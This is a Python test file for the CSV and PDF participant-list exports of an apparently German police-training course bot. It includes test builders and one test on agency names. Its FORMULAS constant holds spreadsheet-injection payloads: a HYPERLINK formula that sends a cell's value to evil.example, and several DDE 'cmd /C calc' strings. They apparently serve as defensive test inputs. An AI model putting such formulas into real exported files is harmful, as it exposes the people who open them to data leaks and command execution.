"""The participant files a training office opens and files: CSV for Excel, PDF to print."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from pypdf import PdfReader

from bot.i18n import texts
from bot.render_admin import list_labels
from kurse import exports
from kurse import registrations as regs
from kurse.clock import BERLIN
from kurse.models import Course, Person, RegistrationStatus
from kurse.registrations import Participant, ParticipantList, participants
from tests import builders

ROOT = Path(__file__).resolve().parent.parent
BOSS = 4242  # bootstrap admin (KURSBOT_ADMIN_IDS)
PRINTED = datetime(2027, 3, 1, 14, 5, tzinfo=BERLIN)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klick")',
    "+49 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NAMES = ["Łukasz Wójcik", "Çağrı Yılmaz", "Jiří Dvořák", "Иван Петров", "Jürgen Müller"]


@pytest.fixture
def boss():
    return {"id": BOSS, "is_bot": False, "first_name": "Chefin", "language_code": "de"}


AGENCY_NAMES = {"PD-Z": "Polizeidirektion Zwickau", "PP-OFR": "Polizeipräsidium Oberfranken"}


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def flat(text: str) -> str:
    """The text with every run of white space (line breaks of wrapped cells) as one space."""
    return re.sub(r"\s+", " ", text)


def a_course(start: datetime, end: datetime, **extra) -> Course:
    values = {
        "id": 5,
        "code": "K-2027-005",
        "title": "Grenzüberschreitende Fahndung – Grundlagen",
        "location": "Hof, Polizeiinspektion",
        "start_at": start,
        "end_at": end,
        "registration_deadline": start - timedelta(days=7),
        "cancellation_deadline": start - timedelta(days=7),
        "created_at": start - timedelta(days=60),
        "updated_at": start - timedelta(days=60),
    }
    values.update(extra)
    return Course(**values)


TWO_DAYS = (datetime(2027, 3, 12, 9, tzinfo=BERLIN), datetime(2027, 3, 13, 16, tzinfo=BERLIN))
THREE_DAYS = (datetime(2027, 3, 29, 8, tzinfo=BERLIN), datetime(2027, 3, 31, 15, tzinfo=BERLIN))


def listing(course: Course, people: dict[str, list[str]], waiting=()) -> ParticipantList:
    """A participant list as `participants` returns it: names by agency code."""
    signed_up = course.start_at - timedelta(days=20)
    confirmed = {
        code: [
            Participant(
                i, i, name, "POK", code, RegistrationStatus.CONFIRMED, None, signed_up, False
            )
            for i, name in enumerate(names, start=100 * (n + 1))
        ]
        for n, (code, names) in enumerate(sorted(people.items()))
    }
    queue = [
        Participant(
            900 + i,
            900 + i,
            name,
            "PM",
            "PD-Z",
            RegistrationStatus.WAITING,
            i + 1,
            signed_up,
            False,
        )
        for i, name in enumerate(waiting)
    ]
    return ParticipantList(course, confirmed, queue, dict(AGENCY_NAMES))


def attendance_list(the_listing: ParticipantList, language: str = "de") -> bytes:
    lead = Person(name="Lea Leitung", telegram_id=1, agency_id=1, language="de")
    labels = list_labels(texts(language), the_listing.course, lead, PRINTED)
    return exports.participants_pdf(the_listing, labels, PRINTED)


# The listing ---------------------------------------------------------------------------------


async def test_the_participant_list_carries_the_full_names_of_the_courses_agencies(
    db, clock, agencies
):
    course = builders.course(db, clock.now(), {"PP-OFR": 3, "PD-Z": 0})
    person = builders.officer(db, agencies["PP-OFR"], clock.now())

    db.call(regs.sign_up, course.id, person.id, clock.now())

    the_listing = db.call(participants, course.id, clock.now())

    assert the_listing.agency_names == {"PP-OFR": "Polizeipräsidium Oberfranken"}
